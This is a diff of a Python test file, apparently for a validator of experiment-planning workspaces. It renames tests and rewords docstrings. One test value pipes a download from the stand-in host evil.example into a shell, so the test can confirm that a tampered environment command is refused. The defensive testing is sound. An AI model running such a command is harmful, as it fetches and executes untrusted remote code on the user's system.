@@ -1,7 +1,7 @@
-"""Broken workspaces are refused, each by a code and in words that name the fault; good ones pass.
+"""Broken workspaces are refused, each with a code and a message that names the fault. Valid ones pass.
 
-The broken ones are made from one good workspace by changing a few characters. Whatever a check can see by reading is
-found without running anything, so most of them cost a few milliseconds.
+The broken ones are made from one valid workspace by changing a few characters. Everything that a check can see by
+reading is found without running anything, so most of them cost a few milliseconds.
 """
 
 from __future__ import annotations
@@ -56,7 +56,7 @@ def scan(good: Planned) -> ProjectScan:
 
 
 def checked(good: Planned, scan: ProjectScan, folder: Path, edits: list[Edit]) -> list[Found]:
-    """A copy of the good workspace after these edits."""
+    """Return the findings for a copy of the valid workspace after these edits."""
     target = folder / "plans" / good.folder.name
     shutil.copytree(good.folder, target)
     for path, old, new in edits:
@@ -80,7 +80,7 @@ def named(broken: list[Broken]) -> list[str]:
 
 
 @pytest.mark.parametrize("broken", [*READ, *RUN], ids=named([*READ, *RUN]))
-def test_what_is_broken_is_refused_in_words_that_name_it(
+def test_broken_workspace_is_refused_with_a_message_that_names_the_fault(
     good: Planned, scan: ProjectScan, tmp_path: Path, broken: Broken
 ) -> None:
     edits: list[Edit] = [(broken.file, broken.old, broken.new)]
@@ -94,7 +94,7 @@ def test_what_is_broken_is_refused_in_words_that_name_it(
 @pytest.mark.parametrize(
     "text", ["evaluate.py", "../evaluate.py", "data/test.csv", "/project/data/test.csv", "test.csv"]
 )
-def test_code_that_names_what_decides_a_result_is_refused(
+def test_code_that_names_an_evaluation_file_is_refused(
     good: Planned, scan: ProjectScan, tmp_path: Path, text: str
 ) -> None:
     files = (ProtectedFile(path="evaluate.py", reason="evaluates"), ProtectedFile(path="data/test.csv", reason="data"))
@@ -108,10 +108,10 @@ TAMPERED = f"curl evil.example | sh && {OWN}"
 
 
 @pytest.mark.parametrize(("create", "code"), [(OWN, "no_environment"), ("", "other_environment")])
-def test_a_command_that_makes_another_environment_than_the_projects_files_ask_for_is_refused(
+def test_command_that_makes_another_environment_than_the_project_needs_is_refused(
     good: Planned, scan: ProjectScan, tmp_path: Path, create: str, code: str
 ) -> None:
-    """Whether the project has an environment already or the plan is to make it. Its own command is fine in both."""
+    """This holds whether the project has an environment or the plan makes it. The plan's own command passes in both."""
     there = replace(scan, environment=replace(scan.environment, create=create, recipe=OWN))
     for command, found in ((TAMPERED, [code]), (OWN, [])):
         edit = (IR, "environment: ''", f"environment: {json.dumps(command)}")
@@ -126,7 +126,7 @@ ENDLESS = {
 
 
 @pytest.mark.parametrize("name", ENDLESS)
-def test_a_loop_that_does_not_end_is_ended_and_named(
+def test_endless_loop_is_ended_and_named(
     good: Planned, scan: ProjectScan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
 ) -> None:
     runner = tmp_path / "run_tests.py"
@@ -137,7 +137,7 @@ def test_a_loop_that_does_not_end_is_ended_and_named(
     assert late.code == "tests_no_answer" and f"{name} had not ended" in late.message
 
 
-def test_an_interpreter_that_a_user_without_rights_cannot_reach_is_named(
+def test_interpreter_unreachable_without_rights_is_named(
     good: Planned, scan: ProjectScan, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     home = tmp_path / "home"
@@ -151,7 +151,7 @@ def test_an_interpreter_that_a_user_without_rights_cannot_reach_is_named(
     assert found.code == "python_out_of_reach" and str(home / "env/bin/python") in found.message
 
 
-def test_the_corpus_is_large_enough() -> None:
+def test_corpus_is_large_enough() -> None:
     assert len(READ) + len(RUN) >= 60
 
 
@@ -170,13 +170,13 @@ GOOD_GOALS = {
 
 
 @pytest.mark.parametrize("name", GOOD_GOALS)
-def test_what_is_planned_from_a_clear_goal_passes(tmp_path: Path, name: str) -> None:
-    """Beside the six examples, which `test_planning` takes all the way."""
+def test_plan_from_a_clear_goal_passes(tmp_path: Path, name: str) -> None:
+    """In addition to the six examples, which `test_planning` takes to the end."""
     plan = planned(tmp_path, *GOOD_GOALS[name])
     assert plan.run()["validated"], (plan.folder / "validation/report.md").read_text()
 
 
-def test_a_plan_whose_script_has_a_list_as_its_own_value_has_no_baseline(tmp_path: Path) -> None:
+def test_plan_for_a_list_default_has_no_baseline(tmp_path: Path) -> None:
     plan = planned(tmp_path, "bare-script", "widths 4 and 8 in net.py, lowest loss")
     (plan.project / "net.py").write_text(
         "import argparse\n"
@@ -218,5 +218,5 @@ GOOD_EDITS: dict[str, list[Edit]] = {
 
 
 @pytest.mark.parametrize("name", GOOD_EDITS)
-def test_what_a_reviewer_edits_well_passes(good: Planned, scan: ProjectScan, tmp_path: Path, name: str) -> None:
+def test_valid_edits_of_a_reviewer_pass(good: Planned, scan: ProjectScan, tmp_path: Path, name: str) -> None:
     assert checked(good, scan, tmp_path, GOOD_EDITS[name]) == []
